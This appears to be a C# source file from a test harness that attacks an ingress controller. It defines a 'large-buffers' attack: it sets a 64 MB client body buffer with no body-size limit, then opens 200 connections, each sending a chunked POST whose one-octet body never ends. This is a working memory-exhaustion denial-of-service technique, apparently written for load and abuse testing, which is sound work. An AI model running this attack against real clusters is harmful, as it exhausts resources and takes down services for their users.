using IngressController.Load.Abuse.Tools;

namespace IngressController.Load.Abuse.Attacks;

/// <summary>An annotation that asks for a large buffer, and bodies of one octet that don't end.</summary>
sealed class LargeBuffers() : Attack("large-buffers", "S13", "client-body-buffer-size 64m, and 200 connections with one octet of a chunked body")
{
    const int Clients = 200;

    public override async Task RunAsync(AttackPlace place, CancellationToken end)
    {
        var host = await place.ServeAsync("buffers", EvilPod.Answering(0), end, ("client-body-buffer-size", "64m"), ("proxy-body-size", "0"));
        byte[] request = [.. RawHttp.Post(host, "/", "Transfer-Encoding: chunked\r\n"), .. "1\r\nx\r\n"u8];
        await Crowd.RunAsync(Clients, place.Tally, async (_, stop) =>
        {
            await using var stream = await place.ConnectAsync(place.Ports.Http, stop);
            place.Tally.Add("requests");
            place.Tally.Add($"answers {await RawHttp.AskAsync(stream, request, stop)}");
        }, end);
    }
}
